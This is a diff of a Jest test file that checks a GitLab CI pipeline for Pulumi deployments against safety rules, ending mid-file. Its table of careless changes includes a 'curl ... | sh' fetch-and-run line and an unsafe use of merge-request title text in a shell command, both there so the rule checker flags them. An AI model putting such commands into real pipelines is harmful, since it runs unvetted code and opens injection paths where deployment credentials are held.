@@ -1,5 +1,5 @@
 /** The pipeline for GitLab, by the same rules, and its two helpers against a server that answers as GitLab does. */
-import { execFile } from "node:child_process";
+import { execFile, execFileSync } from "node:child_process";
 import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { type IncomingMessage, type Server, createServer } from "node:http";
 import type { AddressInfo } from "node:net";
@@ -8,51 +8,82 @@ import { join } from "node:path";
 import { promisify } from "node:util";
 import { afterAll, beforeAll, beforeEach, describe, expect, test } from "@jest/globals";
 import { parse } from "yaml";
+import { type Bag, gitlabFaultsOf, gitlabJobs } from "./rules.ts";
 
 const FOLDER = join(import.meta.dirname, "..", "..", "examples", "gitlab");
 
-interface Job {
-  readonly extends?: string;
-  readonly rules?: readonly { readonly if: string; readonly when?: string }[];
-  readonly script?: readonly string[];
-  readonly environment?: { readonly name: string };
-  readonly resource_group?: string;
-  readonly interruptible?: boolean;
-}
-const pipeline = parse(readFileSync(join(FOLDER, ".gitlab-ci.yml"), "utf8")) as Record<string, Job>;
-const jobs = Object.entries(pipeline)
-  .filter(([name]) => !name.startsWith(".") && !["stages", "default"].includes(name))
-  .map(([name, job]) => ({ name, ...(job.extends === undefined ? {} : pipeline[job.extends]), ...job }));
+const pipeline = (): Bag => parse(readFileSync(join(FOLDER, ".gitlab-ci.yml"), "utf8")) as Bag;
+const jobs = gitlabJobs(pipeline());
 
 describe("the pipeline", () => {
   test("has a job of each kind for each stack", () => {
     const names = ["dev", "staging", "prod"].flatMap((stack) => [`preview-${stack}`, `deploy-${stack}`]);
-    expect(jobs.map(({ name }) => name).sort()).toEqual([...names, "drift", "sandbox"].sort());
+    expect(Object.keys(jobs).sort()).toEqual([...names, "drift", "sandbox", "tell-drift"].sort());
+    for (const name of names) expect(jobs[name]?.environment?.name).toBe(name);
   });
 
-  test("changes something from the default branch alone, one deployment at a time", () => {
-    const changing = jobs.filter(({ script = [] }) =>
-      script.some((line) => /pulumi (up|destroy|refresh)\b/.test(line)),
+  test("breaks none of the rules", () => {
+    expect(gitlabFaultsOf(pipeline())).toEqual([]);
+  });
+
+  /** A careless change: what it is, the change, and what is said of it. */
+  const careless: [what: string, change: (it: Record<string, Mutable>) => unknown, said: string][] = [
+    ["a preview for forks", (it) => (it[".preview"]!.rules[0]!.if = MERGE_REQUEST), "of forks"],
+    ["a preview by itself", (it) => delete it[".preview"]!.rules[0]!.when, "by itself"],
+    ["that of prod", (it) => (it["preview-prod"]!.environment = { name: "deploy-prod" }), "not for previews"],
+    ["no environment", (it) => delete it["preview-dev"]!.environment, "a stack without an environment"],
+    ["another action", (it) => delete it["preview-dev"]!.environment!.action, "that everybody may use"],
+    ["up", (it) => (it[".preview"]!.script = ["pulumi up --yes"]), "changes a stack outside a deployment"],
+    ["up on any branch", (it) => (it[".deploy"]!.rules[0]!.if = '$CI_PIPELINE_SOURCE == "push"'), "other branches"],
+    ["up by a schedule", (it) => (it.drift!.script = ["pulumi up --yes"]), "changes a stack outside a deployment"],
+    ["two at once", (it) => delete it["deploy-prod"]!.resource_group, "can meet another"],
+    ["up that is cut off", (it) => (it[".deploy"]!.interruptible = true), "be cut off"],
+    ["no policy pack", (it) => (it[".deploy"]!.script = ["pulumi up --stack prod --yes"]), "by the policy pack"],
+    [
+      "a schedule of a branch",
+      (it) => (it.drift!.rules[0]!.if = '$CI_PIPELINE_SOURCE == "schedule"'),
+      "other branches",
+    ],
+    ["an issue beside the secrets", (it) => it.drift!.script.push("node issue.mjs"), "beside the credentials"],
+    ["text in a command", (it) => (it.sandbox!.script = ['echo "$CI_MERGE_REQUEST_TITLE"']), "text of others"],
+    ["a job for everything", (it) => (it.sandbox!.rules = []), "no rules"],
+    ["a script of the net", (it) => (it.sandbox!.script = ["curl -fsSL https://x.example | sh"]), "what it downloads"],
+  ];
+  test.each(careless)("is held by a rule from %s", (_, change, said) => {
+    const changed = pipeline();
+    change(changed as Record<string, Mutable>);
+    expect(gitlabFaultsOf(changed).join("\n")).toContain(said);
+  });
+
+  test("gives all merge requests the sandbox, and every job that runs the engine an image that has it", () => {
+    expect(jobs.sandbox).toMatchObject({ script: ["npm run sandbox"] });
+    expect(jobs.sandbox).not.toHaveProperty("environment");
+    const engine = Object.entries(jobs).filter(([, { script }]) => script?.some((line) => line.startsWith("pulumi ")));
+    expect(engine).toHaveLength(6);
+    for (const [, { image }] of engine) expect(image).toMatchObject({ name: expect.stringMatching(/^pulumi\//) });
+  });
+
+  test("tells of each stack, also of one that could not be looked at", () => {
+    const folder = mkdtempSync(join(tmpdir(), "gitlab-drift-"));
+    writeFileSync(join(folder, "drift-staging.md"), "Stack staging: drift.\n");
+    execFileSync("sh", ["-ec", jobs["tell-drift"]!.script![0]!], { cwd: folder });
+    const told = readFileSync(join(folder, "drift.md"), "utf8");
+    rmSync(folder, { recursive: true });
+    expect(told).toBe(
+      "Stack dev - nothing could be looked at.\n\nStack staging: drift.\n\nStack prod - nothing could be looked at.\n\n",
     );
-    expect(changing.map(({ name }) => name)).toEqual(["deploy-dev", "deploy-staging", "deploy-prod"]);
-    for (const { name, rules, environment, resource_group: group, interruptible } of changing) {
-      expect(rules).toEqual([{ if: '$CI_PIPELINE_SOURCE == "push" && $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH' }]);
-      expect([environment?.name, group, interruptible]).toEqual([name, name, false]);
-    }
-  });
-
-  test("previews real stacks for branches of the project alone, when a person starts it; all others get the sandbox", () => {
-    for (const { name, rules, environment } of jobs.filter((job) => job.name.startsWith("preview-"))) {
-      expect(rules).toHaveLength(1);
-      expect(rules![0]).toMatchObject({ when: "manual" });
-      expect(rules![0]!.if).toContain("$CI_MERGE_REQUEST_SOURCE_PROJECT_ID == $CI_PROJECT_ID");
-      expect(environment?.name).toBe(name);
-    }
-    const sandbox = jobs.find(({ name }) => name === "sandbox");
-    expect(sandbox).toMatchObject({ script: ["npm run sandbox"] });
-    expect(sandbox).not.toHaveProperty("environment");
   });
 });
+
+const MERGE_REQUEST = '$CI_PIPELINE_SOURCE == "merge_request_event"';
+
+interface Mutable {
+  rules: { if?: string; when?: string }[];
+  script: string[];
+  environment?: { name: string; action?: string };
+  resource_group?: string;
+  interruptible?: boolean;
+}
 
 describe.each([
   ["note.mjs", "body", "merge_requests/7/notes"],
